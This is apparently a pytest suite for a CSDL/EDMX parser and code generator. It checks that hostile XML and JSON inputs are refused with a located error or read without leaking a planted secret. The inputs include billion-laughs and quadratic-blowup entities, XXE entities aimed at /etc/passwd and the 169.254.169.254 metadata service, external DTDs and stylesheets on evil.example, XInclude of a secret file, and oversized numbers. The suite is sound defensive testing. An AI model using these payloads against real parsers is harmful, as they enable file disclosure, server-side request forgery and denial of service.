"""XML and JSON made to hurt whoever parses it: each is a finding with its place or a correct result, in every command."""

from __future__ import annotations

import codecs
import re
from pathlib import Path

import pytest

from csdlgen import report
from csdlgen.csdl import read_document
from csdlgen.diagnostics import InputError
from tests.csdl import edmx, schema
from tests.hostile.formats import line_faults
from tests.hostile.memory import faults
from tests.hostile.refused import REFUSED, SOUND, SOUND_JSON
from tests.hostile.service import configuration
from tests.runs import Finished, files_in, run

_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
_LONG = "x" * 11_000_000
"""Longer than libxml2 allows an attribute or a text to be, unless told otherwise."""


def described(text: str) -> bytes:
    return edmx(
        schema(f'<ComplexType Name="a"><Annotation Term="Core.Description" String="{text}"/></ComplexType>')
    ).encode()


DOCTYPES = {
    "a DOCTYPE": "<!DOCTYPE x>",
    "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>',
    "quadratic blowup": f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>',
    "an external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "an entity of the network": '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>',
    "an external subset": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    "a public subset": '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "file:///dev/zero">',
    "default attributes": '<!DOCTYPE x [<!ATTLIST ComplexType Abstract CDATA "true">]>',
}
PROLOGS = {
    "at once": "",
    "after a declaration": '<?xml version="1.0"?>\n',
    "after comments": "<!-- <a> -->\n <?pi <!-- ?>\n<!---->",
    "after blanks": "\n \t\r\n",
    "after a byte order mark": "\ufeff",
    "after two byte order marks": "\ufeff\ufeff",
}
READ: dict[str, bytes] = {
    "UTF-16": SOUND.encode("utf-16"),
    "UTF-16, big end first": codecs.BOM_UTF16_BE + SOUND.encode("utf-16-be"),
    "UTF-16 without a mark": SOUND.encode("utf-16-le"),
    "UTF-16 that calls itself UTF-8": f'<?xml version="1.0" encoding="utf-8"?>{SOUND}'.encode("utf-16"),
    "UTF-8 with a mark": codecs.BOM_UTF8 + SOUND.encode(),
    "UTF-8 with two marks": codecs.BOM_UTF8 * 2 + SOUND.encode(),
    "Latin-1": f'<?xml version="1.0" encoding="ISO-8859-1"?>{SOUND}'.encode("latin-1"),
    "instructions everywhere": SOUND.replace(
        "><", '><?xml-stylesheet href="http://evil.example/x.xsl"?><'
    ).encode(),
    "comments everywhere": SOUND.replace("><", "><!-- ]]> <a> --><").encode(),
    "carriage returns": SOUND.replace("><", ">\r<").encode(),
    "JSON": SOUND_JSON.encode(),
    "JSON in UTF-16": SOUND_JSON.encode("utf-16"),
    "JSON with a mark": codecs.BOM_UTF8 + SOUND_JSON.encode(),
}
CORRECT: dict[str, bytes] = {
    "a long attribute": described(_LONG),
    "a long name": SOUND.replace('"a"', f'"{"a" * 1_000}"').encode(),
    "a long tag": SOUND.replace("<ComplexType", f"<x{'y' * 40_000}/><ComplexType").encode(),
    "a long text": SOUND.replace("</Schema>", f"{_LONG}</Schema>").encode(),
    "a long comment": f"<!--{_LONG}-->{SOUND}".encode(),
    "many attributes": SOUND.replace('Name="a"', 'Name="a" ' + " ".join(f'b{i}=""' for i in range(20_000))).encode(),
    "many XML namespaces": SOUND.replace('Name="a"', 'Name="a" ' + " ".join(f'xmlns:b{i}="u"' for i in range(5_000))).encode(),
    "XInclude": SOUND.replace(
        "</Schema>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="secret.txt" parse="text"/></Schema>'
    ).encode(),
    "a schema location": SOUND.replace(
        "<ComplexType",
        '<ComplexType xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="http://evil.example/x http://evil.example/x.xsd"',
    ).encode(),
    "huge numbers": edmx(
        schema(
            f'<ComplexType Name="a"><Property Name="b" Type="Edm.Decimal" Precision="{"9" * 5000}" Scale="{"9" * 5000}" '
            f'MaxLength="{"9" * 5000}" DefaultValue="1e400"/>'
            f'<Property Name="c" Type="Edm.String" MaxLength="{"9" * 5000}"/></ComplexType>'
            f'<EnumType Name="e"><Member Name="m" Value="{"9" * 5000}"/><Member Name="n" Value="-1e400"/></EnumType>'
        )
    ).encode(),
    "huge numbers in JSON": (
        '{"$Version": "4.01", "ns": {"a": {"$Kind": "ComplexType", "@ns.T": 1e400, "b": {"$Type": "Edm.Decimal", '
        f'"$Precision": {"9" * 5000}, "$Scale": 1E+400, "$MaxLength": -{"9" * 5000}, "$DefaultValue": 1e999999999}}}},'
        f'"e": {{"$Kind": "EnumType", "m": {"9" * 5000}, "n": 1.5, "o": 1e400}}}}}}'
    ).encode(),
    "a text that calls itself a document": described("&lt;!DOCTYPE x [&lt;!ENTITY y SYSTEM 'file:///etc/passwd'>]>&amp;y;"),
    "character data": SOUND.replace("</Schema>", "<![CDATA[<!DOCTYPE x>&e;]]></Schema>").encode(),
}  # fmt: skip


def everywhere(folder: Path, data: bytes, name: str = "in.xml") -> list[Finished]:
    """All commands that read a document, each of which raises nothing and says nothing that a terminal obeys."""
    (folder / name).write_bytes(data)
    (folder / "csdlgen.toml").write_text(
        configuration(name, flavor="dataclass", layout="type"), encoding="utf-8"
    )
    finished = [
        run(folder, "validate", name),
        run(folder, "inspect", name),
        run(folder, "convert", name, "converted.json"),
        run(folder, "diff", name, name),
        run(folder, "generate"),
    ]
    assert [fault for each in finished for fault in line_faults(each.stderr)] == []
    return finished


def assert_refused(finished: list[Finished], code: str, file: str = "in.xml") -> None:
    assert [each.code for each in finished] == [1, 2, 2, 2, 2]
    for each in finished:
        assert re.search(rf"^{re.escape(file)}(:\d+:\d+)?: error {code}: ", each.stderr, re.MULTILINE), (
            each.stderr
        )


@pytest.mark.parametrize("prolog", PROLOGS)
@pytest.mark.parametrize("name", DOCTYPES)
def test_a_document_type_is_refused_where_it_stands(name: str, prolog: str, tmp_path: Path) -> None:
    text = PROLOGS[prolog] + DOCTYPES[name] + SOUND.replace('"a"', '"&e;&l11;"')
    for encoding in ("utf-8", "utf-16"):
        with pytest.raises(InputError) as caught:
            read_document(text.encode(encoding), "in.xml")
        (finding,) = caught.value.diagnostics
        before = PROLOGS[prolog].lstrip("\ufeff")
        assert finding.code == "CSDL103"
        assert finding.location.line == before.count("\n") + 1
        assert finding.location.column == len(before) - (before.rfind("\n") + 1) + 1
    if not PROLOGS[prolog]:
        finished = everywhere(tmp_path, text.encode())
        assert_refused(finished, "CSDL103")
        assert all("CSDL has no use for one" in each.stderr for each in finished)


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_document_is_refused(name: str, tmp_path: Path) -> None:
    data, code = REFUSED[name]
    assert_refused(everywhere(tmp_path, data), code)


def test_what_is_refused_is_told_in_these_words(updates_golden: bool) -> None:
    told = []
    for name, data in {
        **{name: data for name, (data, _) in REFUSED.items()},
        **{name: (text + SOUND).encode() for name, text in DOCTYPES.items()},
    }.items():
        with pytest.raises(InputError) as caught:
            read_document(data, "in.xml")
        told += [
            name,
            *(f"    {line}" for line in report.as_lines(caught.value.diagnostics, everything=True)),
        ]
    file = Path(__file__).with_name("refused.txt")
    parser = re.compile("(?<=not well-formed XML: ).*")  # what follows are the words of libxml2
    text = "".join(parser.sub("…", line) + "\n" for line in told)
    if updates_golden:
        file.write_text(text, encoding="utf-8", newline="\n")
    assert text == file.read_text(encoding="utf-8"), "make golden updates it"


@pytest.mark.parametrize("name", [each for each in REFUSED if each not in ("nothing", "blanks", "NUL bytes")])
def test_what_is_refused_has_a_place(name: str) -> None:
    with pytest.raises(InputError) as caught:
        read_document(REFUSED[name][0], "in.xml")
    assert caught.value.diagnostics[0].location.line > 0


@pytest.mark.parametrize("name", READ)
def test_every_way_to_write_a_document_is_read_alike(name: str, tmp_path: Path) -> None:
    finished = everywhere(tmp_path, READ[name])
    assert [each.code for each in finished] == [0] * 5
    assert "é" in (tmp_path / "converted.json").read_text(encoding="utf-8")
    assert "a" in finished[1].stdout


@pytest.mark.parametrize("name", CORRECT)
def test_what_is_large_or_strange_is_read(name: str, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("SECRET", encoding="utf-8")
    finished = everywhere(tmp_path, CORRECT[name])
    assert [each.code for each in finished[1:]] == [0] * 4, finished
    written = b"".join(files_in(tmp_path / "out").values())
    assert b"SECRET" not in written


@pytest.mark.parametrize(
    "text",
    [SOUND, SOUND_JSON, f'<?xml version="1.0" encoding="ISO-8859-1"?>{SOUND}'],
    ids=["xml", "json", "declared"],
)
def test_a_document_that_ends_anywhere_is_refused_there(text: str) -> None:
    data = text.encode()
    for end in range(len(data)):
        assert list(faults(data[:end])) == []
        with pytest.raises(InputError) as caught:
            read_document(data[:end], "in.xml" if data[:1] == b"<" else "in.json")
        (finding,) = caught.value.diagnostics
        assert finding.code in {"CSDL101", "CSDL102", "CSDL104"}
        assert end < 2 or finding.location.line == 1


@pytest.mark.parametrize("text", [SOUND, SOUND_JSON], ids=["xml", "json"])
def test_a_document_without_one_of_its_bytes_breaks_nothing(text: str) -> None:
    data = text.encode()
    for at in range(len(data)):
        assert list(faults(data[:at] + data[at + 1 :])) == []
        assert list(faults(data[:at] + b"\0" + data[at:])) == []
